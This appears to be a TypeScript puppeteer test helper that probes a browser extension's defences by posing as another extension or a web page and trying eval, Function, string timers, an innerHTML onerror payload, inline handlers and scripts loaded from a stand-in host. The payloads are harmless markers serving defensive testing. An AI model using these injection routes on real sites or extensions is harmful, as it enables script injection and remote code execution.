import type { Page } from "puppeteer-core";

/** What strangers do in the browser, and what comes of it. Functions that run in a page name nothing outside themselves. */

interface NeighbourApi {
  readonly runtime: {
    sendMessage(id: string, message: unknown): Promise<unknown>;
    connect(
      id: string,
      options: { readonly name: string },
    ): {
      readonly onMessage: { addListener(hear: () => void): void };
      readonly onDisconnect: { addListener(hear: () => void): void };
      postMessage(message: unknown): void;
    };
  };
  readonly tabs: { query(filter: object): Promise<readonly { readonly id: number; readonly url?: string }[]> };
  readonly scripting: {
    executeScript(order: { readonly target: { readonly tabId: number }; readonly func: () => void }): Promise<unknown>;
  };
}

/** By everything one extension may try with another: a message, a port, a file, a script in one of its pages. */
export function askAsNeighbour(neighbour: Page, addressee: string, message: object) {
  return neighbour.evaluate(
    async (id, request) => {
      const { chrome } = globalThis as unknown as { readonly chrome: NeighbourApi };
      const whether = (attempt: () => Promise<unknown>): Promise<string> =>
        attempt().then(
          (answer) => `answered: ${JSON.stringify(answer)}`,
          () => "refused",
        );
      const ours = (await chrome.tabs.query({})).filter(({ url }) => url?.includes("/src/ui/setup/"));
      const [tab] = ours;
      const base = tab?.url?.replace(/src\/ui.*$/, "") ?? "no page of ours is open";
      return {
        message: await whether(() => chrome.runtime.sendMessage(id, request)),
        port: await new Promise<string>((resolve) => {
          const port = chrome.runtime.connect(id, { name: "observer" });
          port.onMessage.addListener(() => resolve("answered"));
          port.onDisconnect.addListener(() => resolve("closed unheard"));
          port.postMessage({ kind: "documentOpened" });
        }),
        file: await whether(() => fetch(`${base}manifest.json`)),
        page: await whether(() =>
          chrome.scripting.executeScript({ target: { tabId: tab?.id ?? -1 }, func: () => document.title }),
        ),
      };
    },
    addressee,
    message,
  );
}

/** As a site the client allowed, with everything a page has. */
export function askAsPage(page: Page, base: string) {
  return page.evaluate(async (address) => {
    const { chrome, browser } = globalThis as unknown as Readonly<Record<string, { readonly runtime?: object }>>;
    for (const kind of ["readSetup", "submitAnswers", "documentOpened", "captureChanged"]) {
      const message = { v: 1, kind, ask: null, live: true };
      window.postMessage(message, "*");
      for (const name of ["aftersession", "aftersession?", kind])
        document.dispatchEvent(new CustomEvent(name, { detail: JSON.stringify(message) }));
    }
    return {
      door: chrome?.runtime === undefined && browser?.runtime === undefined ? "none" : "there",
      file: await fetch(`${address}manifest.json`).then(
        () => "read",
        () => "refused",
      ),
      picture: await new Promise<string>((resolve) => {
        const picture = new Image();
        picture.addEventListener("load", () => resolve("shown"));
        picture.addEventListener("error", () => resolve("refused"));
        picture.src = `${address}icons/128.png`;
      }),
    };
  }, base);
}

/** What is chosen and typed on a page of ours. */
export function lookIn(page: Page): Promise<{ readonly chosen: number; readonly typed: string }> {
  return page.evaluate(() => ({
    chosen: document.querySelectorAll("input:checked").length,
    typed: [...document.querySelectorAll("textarea")].map(({ value }) => value).join(""),
  }));
}

/** Every way of making code out of text or out of an address that somebody who got into a page of ours might try. */
export function tryToRun(
  page: Page,
): Promise<{ readonly ran: readonly string[]; readonly refused: readonly string[] }> {
  return page.evaluate(async () => {
    const scope = globalThis as unknown as { ran?: string[] } & Readonly<Record<string, (code: string) => unknown>>;
    const ran: string[] = [];
    scope.ran = ran;
    // What a driver calls may evaluate text; what comes after it is the page's own.
    await new Promise((resolve) => setTimeout(resolve));
    const says = (name: string): string => `globalThis.ran.push(${JSON.stringify(name)})`;
    const script = (fill: (element: HTMLScriptElement) => void): void => {
      const element = document.createElement("script");
      fill(element);
      document.body.append(element);
    };
    const ways: Readonly<Record<string, () => unknown>> = {
      // By another name: what is tried here must not run in a place of its own rules.
      eval: () => scope.eval!(says("eval")),
      function: () => (scope.Function!(says("function")) as () => void)(),
      timer: () => (setTimeout as (code: string) => unknown)(says("timer")),
      inline: () => script((element) => void (element.textContent = says("inline"))),
      markup: () => {
        const box = document.createElement("div");
        document.body.append(box);
        box.innerHTML = `<img src="x:" onerror='${says("markup")}'>`;
      },
      handler: () => {
        const button = document.createElement("button");
        button.setAttribute("onclick", says("handler"));
        document.body.append(button);
        button.click();
      },
      remote: () => script((element) => void (element.src = "https://elsewhere.example/code.js")),
      module: () => import("https://elsewhere.example/module.js" as string),
      worker: () => new Worker(URL.createObjectURL(new Blob([says("worker")]))),
    };
    const refused: string[] = [];
    for (const [name, attempt] of Object.entries(ways))
      try {
        await attempt();
      } catch {
        refused.push(name);
      }
    // What was put off comes before this.
    await new Promise((resolve) => setTimeout(resolve, 100));
    return { ran, refused };
  });
}
